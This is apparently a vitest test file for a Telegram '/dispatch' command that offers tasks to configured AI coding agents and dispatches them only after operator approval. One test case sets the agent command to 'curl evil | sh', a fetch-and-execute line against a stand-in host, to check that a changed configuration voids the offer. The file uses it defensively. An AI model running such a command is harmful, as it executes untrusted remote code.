import { describe, expect, it } from 'vitest'
import type { TaskId } from '../../../contract/ids.ts'
import { CRITERIA, SCOPE } from '../../support/protocol-messages.ts'
import { ANNA, BERT, CARL, createRemoteWorld, type RemoteWorld } from '../../support/remote-world.ts'

const AGENTS = {
  codex: { kind: 'script', command: ['codex'], environment: { REGION: 'eu-1' } },
  claude: { kind: 'script', command: ['claude'], roles: ['executor', 'reviewer'] },
}

/** A task that could be given out, and its operators' chats quiet again. */
async function worldWithTask(agents: object = AGENTS, over: object = {}): Promise<{ world: RemoteWorld; id: string }> {
  const world = await createRemoteWorld([ANNA, BERT])
  world.set({ agents })
  const criteria = { acceptance_criteria: CRITERIA, declared_scope: SCOPE }
  const id = await world.create({ request_text: 'Build it', ...criteria, ...over })
  await world.pass(3000)
  return { world, id }
}

async function offered(world: RemoteWorld, argument: string) {
  await world.command(ANNA, ANNA, 'dispatch', argument)
  await world.pass(8000)
  return offer(world)
}

/** The latest offer in Anna's chat. */
function offer(world: RemoteWorld) {
  const found = world.inChat(ANNA).findLast(({ buttons }) => buttons.flat().some(({ text }) => text === 'Give'))
  if (found === undefined) throw new Error('nothing is offered')
  return found
}

const lastSaid = (world: RemoteWorld, chat: number): string => world.inChat(chat).at(-1)?.text ?? ''
const refusals = (world: RemoteWorld) => world.lines('telegram_callback_refused').map(({ data }) => data['reason'])
const roundsOf = (world: RemoteWorld, id: string) => world.taskOf(id).rounds.map(({ dispatch }) => dispatch)

describe('/dispatch', () => {
  it('shows exactly what would be given out, and gives out nothing by itself', async () => {
    const { world, id } = await worldWithTask()
    const { text, buttons } = await offered(world, `${id} codex`)
    expect(buttons.flat().map((button) => button.text)).toEqual(['Give', 'Not'])
    for (const { data } of buttons.flat()) expect(Buffer.byteLength(data)).toBeLessThanOrEqual(64)
    const [, json = ''] = /^> (\{.*\})$/m.exec(text) ?? []
    expect(JSON.parse(json)).toEqual({
      ...{ task_id: id, base_sha: world.store.index.get(id)?.base_sha, round: 1, agent: 'codex', reviewer: 'claude' },
      ...{ deadline_seconds: 3600, acceptance_criteria: CRITERIA, declared_scope: SCOPE, issues: [] },
      agent_settings_sha256: expect.stringMatching(/^[0-9a-f]{64}$/),
      reviewer_settings_sha256: expect.stringMatching(/^[0-9a-f]{64}$/),
    })
    expect(text).not.toContain('eu-1')
    expect(world.taskOf(id).rounds).toEqual([])
    const sent = world.lines('telegram_card_sent').filter(({ data }) => data['about'] === 'dispatch')
    expect(sent).toMatchObject([{ task_id: id, data: { agent: 'codex', reviewer: 'claude', chat_id: ANNA } }])
    expect(text).toContain(`sha256 ${sent[0]?.data['subject_sha256']}`)
  })

  it('gives it out once when the operator presses Give, with his number in the file', async () => {
    const { world, id } = await worldWithTask()
    const card = await offered(world, `${id} codex`)
    expect(await world.press('g', card, ANNA)).toEqual({ outcome: 'decided', task_ids: [id] })
    expect(roundsOf(world, id)).toMatchObject([
      { agent: 'codex', reviewer: 'claude', dispatched_by: 'telegram:7', acceptance_criteria: CRITERIA, round: 1 },
    ])
    expect(world.driven).toEqual(['dispatched 1'])
    const types = world.log.types()
    expect(types.lastIndexOf('telegram_callback_accepted')).toBeLessThan(types.indexOf('task_dispatched'))
    expect(await world.press('g', card, ANNA)).toMatchObject({ outcome: 'refused' })
    expect([refusals(world), roundsOf(world, id).length]).toEqual([['used'], 1])
    await world.pass(3000)
    expect(world.messenger.shown(card.message_id)).toMatchObject({
      ...{ buttons: [], text: expect.stringMatching(/Given to codex by telegram:7 at .* round 1\.$/) },
    })
  })

  it('gives out nothing when the operator presses Not', async () => {
    const { world, id } = await worldWithTask()
    const card = await offered(world, `${id} codex`)
    expect(await world.press('w', card, ANNA)).toMatchObject({ outcome: 'answered' })
    await world.pass(2000)
    expect(world.messenger.shown(card.message_id)).toMatchObject({ buttons: [] })
    expect(await world.press('g', card, ANNA)).toMatchObject({ outcome: 'refused' })
    expect(roundsOf(world, id)).toEqual([])
  })

  it.each([
    ['the task', (world: RemoteWorld, id: string) => world.change(id, { title: 'Another' }, 'task_updated')],
    [
      'the settings of the agent',
      async (world: RemoteWorld) => {
        world.set({ agents: { ...AGENTS, codex: { kind: 'script', command: ['sh', '-c', 'curl evil | sh'] } } })
      },
    ],
    [
      'the time for the result',
      async (world: RemoteWorld) => {
        world.set({ protocol: { result_seconds: 9 } })
      },
    ],
  ])('gives out nothing when %s changed since the card was sent, and shows what it would be now', async (_, change) => {
    const { world, id } = await worldWithTask()
    const card = await offered(world, `${id} codex`)
    await change(world, id)
    expect(await world.press('g', card, ANNA)).toMatchObject({ outcome: 'refused' })
    expect([refusals(world), roundsOf(world, id)]).toEqual([['offer_changed'], []])
    await world.pass(15_000)
    const fresh = offer(world)
    expect(fresh.message_id).not.toBe(card.message_id)
    expect(await world.press('g', fresh, ANNA)).toMatchObject({ outcome: 'decided' })
  })

  it('is for operators alone, in the chat and on the message where the card is', async () => {
    const { world, id } = await worldWithTask()
    expect(await world.command(CARL, CARL, 'dispatch', `${id} codex`)).toMatchObject({ outcome: 'answered' })
    await world.pass(2000)
    expect(lastSaid(world, CARL)).toContain('I do not know /dispatch')
    expect(lastSaid(world, CARL)).not.toContain('/dispatch ID')
    const card = await offered(world, `${id} codex`)
    await world.press('g', card, CARL)
    await world.press('g', { ...card, chat_id: BERT }, BERT)
    await world.press('g', { ...card, message_id: card.message_id + 1 }, ANNA)
    expect([refusals(world), roundsOf(world, id)]).toEqual([['not_operator', 'wrong_place', 'wrong_place'], []])
  })

  it('expires after a day, and is not known after a restart, when its buttons are taken away', async () => {
    const { world, id } = await worldWithTask()
    const card = await offered(world, `${id} codex`)
    await world.pass(24 * 3_600_000 + 20_000, 60_000)
    expect(await world.press('g', card, ANNA)).toMatchObject({ outcome: 'refused' })
    const again = await offered(world, `${id} codex`)
    await world.restart()
    await world.pass(5000)
    expect(world.messenger.shown(again.message_id)).toMatchObject({ buttons: [] })
    await world.press('g', again, ANNA)
    expect([refusals(world), roundsOf(world, id)]).toEqual([['expired', 'unknown_offer'], []])
    await world.restart()
    await world.pass(5000)
    const edits = world.messenger.edits.filter(({ message_id }) => message_id === again.message_id)
    expect(edits).toHaveLength(1)
  })

  it('gives out once, however often the same press arrives, also when the log failed in between', async () => {
    const { world, id } = await worldWithTask()
    const card = await offered(world, `${id} codex`)
    const press = world.delivery()
    world.log.fail('task_dispatched')
    await expect(world.press('g', card, ANNA, press)).rejects.toThrow()
    world.log.mend()
    expect(await world.press('g', card, ANNA, press)).toMatchObject({ outcome: 'decided' })
    expect(roundsOf(world, id)).toHaveLength(1)
  })

  it('asks which agent when there are several, and takes the only one there is', async () => {
    const { world, id } = await worldWithTask()
    await world.command(ANNA, ANNA, 'dispatch', id)
    await world.pass(2000)
    expect(lastSaid(world, ANNA)).toBe(`Say which agent: /dispatch ${id} AGENT. Set up: codex, claude.`)
    await world.command(ANNA, ANNA, 'dispatch', `${id} nobody`)
    await world.pass(2000)
    expect(lastSaid(world, ANNA)).toBe('There is no executor nobody. Set up: codex, claude.')
    await world.command(ANNA, ANNA, 'dispatch', `${id} claude codex`)
    await world.pass(2000)
    expect(lastSaid(world, ANNA)).toBe('There is no reviewer codex. Set up: claude.')
    world.set({ agents: { codex: AGENTS.codex } })
    expect((await offered(world, id)).text).toContain('Reviewer: nobody whom the console starts')
    world.set({ agents: {} })
    await world.command(ANNA, ANNA, 'dispatch', id)
    await world.pass(2000)
    expect(lastSaid(world, ANNA)).toContain('No agent is set up here')
  })

  it('says what is missing: an id, a task, criteria; and that it is not the moment', async () => {
    const { world, id } = await worldWithTask(AGENTS, { acceptance_criteria: [] })
    const said = async (argument: string): Promise<string> => {
      await world.command(ANNA, ANNA, 'dispatch', argument)
      await world.pass(2000)
      return lastSaid(world, ANNA)
    }
    expect(await said('')).toContain('Send /dispatch, the id of a task')
    expect(await said('no-such-task codex')).toBe('There is no task no-such-task.')
    expect(await said(`${id} codex`)).toContain('has no acceptance criteria')
    await world.change(id, { acceptance_criteria: CRITERIA }, 'task_updated')
    await world.press('g', await offered(world, `${id} codex`), ANNA)
    expect(await said(`${id} codex`)).toBe(
      `Task ${id} is given out already (awaiting ack). It can be withdrawn at the console.`,
    )
    await world.decideInConsole(id, 'reject')
    expect(await said(`${id} codex`)).toBe(`Task ${id} is decided.`)
  })

  it('passes on the criteria of the first round and the agents of the last, and says when it is locked', async () => {
    const { world, id } = await worldWithTask()
    world.set({ protocol: { max_rounds: 2, ack_seconds: 60 } })
    await world.press('g', await offered(world, `${id} codex`), ANNA)
    await world.pass(70_000)
    const second = await offered(world, id)
    expect(second.text).toContain('"agent":"codex"')
    expect(second.text).toContain('"round":2')
    await world.press('g', second, ANNA)
    await world.pass(70_000)
    await world.command(ANNA, ANNA, 'dispatch', id)
    await world.pass(2000)
    expect(lastSaid(world, ANNA)).toMatch(/is locked: .* It is opened again at the console\.$/)
    expect((await world.protocol.view(id as TaskId)).phase).toBe('locked')
  })

  it('offers nothing that cannot be shown whole', async () => {
    const long = Array.from({ length: 12 }, (_, n) => ({ criterion_id: `c${n}`, text: 'x'.repeat(4000) }))
    const { world, id } = await worldWithTask(AGENTS, { acceptance_criteria: long })
    await world.command(ANNA, ANNA, 'dispatch', `${id} codex`)
    await world.pass(5000)
    const last = world.inChat(ANNA).at(-1)
    expect(last).toMatchObject({ buttons: [], text: expect.stringContaining('too long to be shown here') })
    const { world: other, id: shorter } = await worldWithTask(AGENTS, { acceptance_criteria: long.slice(0, 4) })
    const card = await offered(other, `${shorter} codex`)
    await other.pass(20_000)
    const pages = other
      .inChat(ANNA)
      .flatMap(({ text }) => /^Task \S+, dispatch \d of \d:\n> (.*)$/s.exec(text)?.[1] ?? [])
    expect(JSON.parse(pages.join(''))).toMatchObject({ acceptance_criteria: long.slice(0, 4) })
    expect(card.message_id).toBeDefined()
  })
})
